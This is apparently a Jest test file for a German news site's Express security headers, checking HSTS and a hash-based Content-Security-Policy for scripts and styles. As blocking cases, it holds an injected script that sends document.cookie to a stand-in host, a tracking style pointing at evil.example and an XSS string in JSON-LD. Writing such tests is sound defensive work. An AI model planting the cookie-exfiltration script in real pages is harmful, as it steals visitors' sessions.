import express from 'express';
import request from 'supertest';
import { createHash } from 'node:crypto';
import { mandators } from '@news/config/mandators';
import type { Registry } from '@news/contracts/registry';
import { createDocumentStyleTexts } from './createDocumentStyleTexts';
import { entryLoaderScript } from './entryLoaderScript';
import { unavailablePageStyle } from './unavailablePage';
import { documentHead, documentTail, type DocumentParts } from './renderDocument';
import {
  contentSecurityPolicy,
  documentScriptSources,
  securityHeaders,
  STRICT_TRANSPORT_SECURITY,
} from './securityHeaders';

const app = express();
app.set('trust proxy', 'loopback'); // the test stands in for the https proxy in front
app.use(securityHeaders);
app.get('/', (_req, res) => {
  res.send('ok');
});

it('sends HSTS on answers that came over https, and never over plain http', async () => {
  const https = await request(app).get('/').set('x-forwarded-proto', 'https');
  expect(https.headers['strict-transport-security']).toBe(STRICT_TRANSPORT_SECURITY);
  expect(https.headers['x-content-type-options']).toBe('nosniff');
  const http = await request(app).get('/');
  expect(http.headers['strict-transport-security']).toBeUndefined();
  expect(http.headers['x-content-type-options']).toBe('nosniff');
});

it('allows no plugins and no <base> element in documents', () => {
  const csp = contentSecurityPolicy(['https://cdn.example.test']).split('; ');
  expect(csp).toEqual(expect.arrayContaining(["object-src 'none'", "base-uri 'none'"]));
});

it("allows frames of the brands' e-commerce widget origins, and no other shop", () => {
  const frameSrc = contentSecurityPolicy([])
    .split('; ')
    .find((directive) => directive.startsWith('frame-src'));
  expect(frameSrc?.split(' ')).toContain('http://shop.localhost:3000');
  expect(frameSrc).not.toContain('shop.example');
});

describe('the scripts a document may run (script-src)', () => {
  const mandator = mandators.rb;
  const layer = '<section class="cs-layer" role="dialog">Ihre Privatsphäre</section>';
  const parts = (over: Partial<DocumentParts> = {}): DocumentParts => ({
    mandator,
    site: null,
    title: 'Neue Brücke freigegeben',
    description: 'Nach zwei Jahren rollt der Verkehr.',
    canonicalUrl: 'https://rb.example.test/neue-bruecke-4711',
    origin: 'https://rb.example.test',
    layout: 'default',
    showProgressBar: true,
    showUtilityBar: false,
    shellAssets: {
      js: ['/remotes/shell/main.1.js', '/remotes/shell/islands.2.js'],
      app: ['/remotes/shell/app.3.js'],
      css: [],
      preload: [],
      fonts: [],
    },
    remoteAssets: { css: [], preload: ['/remotes/mf-articles/remoteEntry.js'] },
    ssrRemote: 'mf-articles',
    head: {
      canonicalPath: '/neue-bruecke-4711',
      ogType: 'article',
      jsonLd: { '@type': 'NewsArticle', headline: '</script><script>alert(1)</script>' },
    },
    state: { mandator: 'rb', brandName: mandator.name, registry: {}, consentManagement: true },
    ...over,
  });
  const documentOf = (p: DocumentParts, slotHtml = '<article><h1>Neue Brücke</h1></article>') =>
    documentHead(p) + slotHtml + documentTail(p);
  /** The scripts a browser would run from the markup: every <script> but the data blocks (JSON, JSON-LD). */
  const executable = (html: string) =>
    [...html.matchAll(/<script(\s[^>]*)?>([\s\S]*?)<\/script>/g)]
      .map((m) => ({ attrs: m[1] ?? '', text: m[2] ?? '' }))
      .filter(({ attrs }) => !/type="application\/(ld\+)?json"/.test(attrs));
  const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
  const scriptSrc = () =>
    contentSecurityPolicy(['https://cdn.example.test'])
      .split('; ')
      .find((d) => d.startsWith('script-src '))!
      .split(' ')
      .slice(1);

  it("allows inline scripts only by hash, never 'unsafe-inline' or 'unsafe-eval', and trusts what they insert", () => {
    expect(scriptSrc()).toContain("'strict-dynamic'");
    expect(scriptSrc()).not.toContain("'unsafe-inline'");
    expect(scriptSrc()).not.toContain("'unsafe-eval'");
    expect(scriptSrc().filter((s) => /^(\*|https?:|data:|blob:)$/.test(s))).toEqual([]);
  });

  it('hashes exactly the inline scripts the documents carry, and the documents start no script by its src', () => {
    const withLayer = executable(documentOf(parts({ consentLayerHtml: layer })));
    const withoutLayer = executable(documentOf(parts({ firstView: 'islands' })));
    expect([...withLayer, ...withoutLayer].filter(({ attrs }) => /\ssrc=/.test(attrs))).toEqual([]);
    const rendered = new Set([...withLayer, ...withoutLayer].map(({ text }) => hashOf(text)));
    const allowed = new Set(scriptSrc().filter((s) => s.startsWith("'sha256-")));
    expect(rendered).toEqual(allowed);
    expect(new Set(documentScriptSources)).toEqual(allowed);
  });

  it('does not allow a script injected into the page, inline or by its address', () => {
    const injected = 'fetch("https://evil.example/?c="+document.cookie)';
    const html = documentOf(parts(), `<p>Leserbrief</p><script>${injected}</script>`);
    const foreign = executable(html).filter(({ text }) => !documentScriptSources.includes(hashOf(text)));
    expect(foreign.map(({ text }) => text)).toEqual([injected]);
    expect(scriptSrc()).not.toContain(hashOf(injected));
    // a <script src> the parser meets runs only with a nonce or hash under 'strict-dynamic': none is given
    expect(scriptSrc().some((s) => s.startsWith("'nonce-"))).toBe(false);
  });

  it('names the entry scripts the document computes for its loader script in the head, in their order', () => {
    const html = documentOf(parts({ firstView: 'islands' }));
    const loader = `<script data-entries="/remotes/shell/main.1.js /remotes/shell/islands.2.js">${entryLoaderScript}</script>`;
    expect(html.indexOf(loader)).toBeGreaterThan(0);
    expect(html.indexOf(loader)).toBeLessThan(html.indexOf('</head>'));
  });

  it('lets the service worker and fonts come from this origin only', () => {
    const directives = contentSecurityPolicy(['https://remotes.example']).split('; ');
    expect(directives).toContain("worker-src 'self'");
    // fonts have no directive of their own: default-src decides, which names no other origin
    expect(directives.filter((d) => d.startsWith('font-src'))).toEqual([]);
    expect(directives).toContain("default-src 'self'");
  });
});

describe('the styles a document may apply (style-src)', () => {
  const mandator = mandators.la;
  const shellCss = { href: '/remotes/shell/main.3.css', text: '.shell-header{background:url(img/x.svg)}' };
  const articlesCss = { href: '/remotes/mf-articles/app.4.css', text: '.ar-a::after{content:"</style>"}' };
  const consentCss = { href: '/remotes/mf-consent/layer.5.css', text: '.cs-layer{position:fixed}' };
  const styleTexts = createDocumentStyleTexts({
    selfUrl: 'http://127.0.0.1:1',
    localBuild: async () => ({
      id: 'build-1',
      shell: {
        js: ['/remotes/shell/first-view/first-view.1.js'],
        app: ['/remotes/shell/main.1.js'],
        css: [shellCss],
        preload: [],
        fonts: [],
        startupShared: [],
      },
    }),
    remoteAssets: async (manifestUrl) => ({
      css: manifestUrl.includes('mf-consent') ? [consentCss] : [articlesCss],
      preload: [],
    }),
  });
  const registry = {
    'mf-articles': { entry: '/remotes/mf-articles/mf-manifest.json' },
    'mf-consent': { entry: '/remotes/mf-consent/mf-manifest.json' },
  } as unknown as Registry;
  const site = {
    menuHandles: { main: [], hotTopics: [] },
    breakingNews: { id: 4711, title: 'Großbrand', path: '/grossbrand-4711' },
  } as unknown as NonNullable<DocumentParts['site']>;
  const documentOf = (over: Partial<DocumentParts> = {}) => {
    const p: DocumentParts = {
      mandator,
      site,
      title: 'Start',
      description: 'd',
      canonicalUrl: 'https://la.example.test/',
      origin: 'https://la.example.test',
      layout: 'default',
      showProgressBar: false,
      showUtilityBar: true,
      shellAssets: {
        js: ['/remotes/shell/first-view/first-view.1.js'],
        app: ['/remotes/shell/main.1.js'],
        css: [shellCss],
        preload: [],
        fonts: [],
      },
      remoteAssets: { css: [articlesCss, consentCss], preload: [] },
      ssrRemote: 'mf-articles',
      consentLayerHtml: '<section class="cs-layer" role="dialog">Ihre Privatsphäre</section>',
      state: { mandator: 'la', brandName: mandator.name, registry: {}, consentManagement: true },
      ...over,
    };
    return documentHead(p) + documentTail(p);
  };
  const inlineStyles = (html: string) =>
    [...html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)].map((m) => m[1]!);
  const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
  const styleSrc = async () => {
    const { texts } = await styleTexts(mandator, registry);
    return contentSecurityPolicy([], [], texts.map(hashOf))
      .split('; ')
      .find((d) => d.startsWith('style-src '))!
      .split(' ')
      .slice(1);
  };

  it("allows every inline <style> of the brand's documents by its hash, and no 'unsafe-inline'", async () => {
    const allowed = await styleSrc();
    expect(allowed).not.toContain("'unsafe-inline'");
    expect(allowed).not.toContain("'unsafe-hashes'");
    const documents = [
      documentOf(),
      documentOf({ site: null, consentLayerHtml: undefined, ssrRemote: undefined }),
    ];
    const styles = documents.flatMap(inlineStyles);
    expect(styles.length).toBeGreaterThanOrEqual(7);
    expect(styles.map(hashOf).filter((h) => !allowed.includes(h))).toEqual([]);
    expect(allowed).toContain(hashOf(unavailablePageStyle));
  });

  it('does not allow a <style> injected into the page, nor the other brand’s tokens', async () => {
    const allowed = await styleSrc();
    const injected = 'body{background:url(https://evil.example/track)}';
    expect(allowed).not.toContain(hashOf(injected));
    const rb = inlineStyles(documentOf({ mandator: mandators.rb }));
    expect(rb.map(hashOf).filter((h) => !allowed.includes(h))).toHaveLength(1);
  });

  it('says when a stylesheet could not be read, so the policy is built again', async () => {
    const failing = createDocumentStyleTexts({
      selfUrl: 'http://127.0.0.1:1',
      localBuild: async () => {
        throw new Error('no build');
      },
      remoteAssets: async () => ({ css: [], preload: [] }),
    });
    expect(await failing(mandator, registry)).toMatchObject({ buildId: null, complete: false });
    expect(await styleTexts(mandator, registry)).toMatchObject({ buildId: 'build-1', complete: true });
  });
});
